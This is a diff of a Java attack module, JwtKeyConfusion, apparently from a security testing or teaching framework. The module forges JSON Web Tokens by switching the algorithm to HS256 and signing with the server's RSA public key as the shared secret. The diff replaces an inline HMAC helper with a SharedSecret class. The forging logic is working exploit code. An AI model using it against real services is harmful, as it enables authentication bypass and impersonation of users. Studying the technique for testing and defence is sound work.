@@ -14,8 +14,6 @@ import java.security.spec.RSAPublicKeySpec;
 import java.util.Base64;
 import java.util.List;
 import java.util.stream.StreamSupport;
-import javax.crypto.Mac;
-import javax.crypto.spec.SecretKeySpec;
 
 /** Signs with the server's public key as if it were a shared secret. */
 @AutoService(Attack.class)
@@ -47,11 +45,11 @@ public final class JwtKeyConfusion extends JwtAttack {
             .withHeader("alg", "HS256")
             .withHeader("kid", key.path("kid").asText())
             .withClaim("sub", Loot.VICTIM);
-    String signed = forged.withSignature(hmac(pem, forged.signingInput())).text();
+    SharedSecret secret = new SharedSecret(pem.getBytes(StandardCharsets.US_ASCII));
     return target.makes(
         "Write alg HS256 and sub alice, and sign with that text as the secret.",
         "forged token",
-        signed);
+        secret.sign(forged).text());
   }
 
   private static JsonNode rsaKey(JsonNode jwks) throws CredentialException {
@@ -73,15 +71,5 @@ public final class JwtKeyConfusion extends JwtAttack {
 
   private static BigInteger number(JsonNode key, String name) {
     return new BigInteger(1, Base64.getUrlDecoder().decode(key.path(name).asText()));
-  }
-
-  private static byte[] hmac(String secret, byte[] text) throws CredentialException {
-    try {
-      Mac mac = Mac.getInstance("HmacSHA256");
-      mac.init(new SecretKeySpec(secret.getBytes(StandardCharsets.UTF_8), "HmacSHA256"));
-      return mac.doFinal(text);
-    } catch (GeneralSecurityException unusable) {
-      throw new CredentialException("This text cannot be used as a secret.");
-    }
   }
 }
